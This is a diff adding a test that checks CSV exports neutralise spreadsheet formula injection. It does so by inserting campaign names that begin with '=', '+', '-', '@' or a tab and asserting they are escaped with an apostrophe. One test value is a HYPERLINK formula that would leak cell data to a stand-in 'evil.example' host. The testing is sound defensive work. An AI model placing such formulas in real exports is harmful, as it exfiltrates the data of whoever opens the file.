@@ -63,3 +63,25 @@ def test_a_publish_folder_with_spaces_an_apostrophe_unicode_and_brackets(project
     assert _bi(s, "select month, sum(net_sales_reporting) from mart_net_sales_monthly group by 1") == [
         ("2026-06", 170)]
     assert main(["report", "--month", "2026-06"]) == 0
+
+
+def test_a_csv_cell_that_excel_would_run_as_a_formula_is_published_as_text(project):  # noqa: F811
+    """A campaign named "=HYPERLINK(...)" (or "+…", "-…", "@…") ran as a formula when finance opened the CSV in
+    Excel. Its CSV cell starts with an apostrophe; amounts (-20.00) stay numbers; Parquet keeps the name as it is."""
+    s = project
+    con = duckdb.connect(str(s.warehouse))
+    names = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+SUM(1+1)", "-2+3", "@SUM(A1)", "\tx",
+             "summer sale"]
+    for name in names:
+        con.execute("insert into marts.mart_attribution_campaign_monthly values "
+                    "('2026-06', 'last_touch', 'Paid Social', 'meta', ?, -20.00, 0.00)", [name])
+    con.close()
+    publish_month(s, "2026-06")
+    folder = s.publish / "2026-06"
+    rows = duckdb.execute(f"select campaign_key, attributed_revenue from read_csv('{folder}/"
+                          "mart_attribution_campaign_monthly.csv', all_varchar = true) order by 1").fetchall()
+    assert sorted(c for c, _ in rows) == sorted(["'" + n if n[0] in "=+-@\t" else n for n in names])
+    assert {v for _, v in rows} == {"-20.00"}
+    parquet = duckdb.execute(f"select campaign_key from '{folder}/mart_attribution_campaign_monthly.parquet'")
+    assert sorted(r[0] for r in parquet.fetchall()) == sorted(names)
+    assert sorted(r[0] for r in _bi(s, "select campaign_key from mart_attribution_campaign_monthly")) == sorted(names)
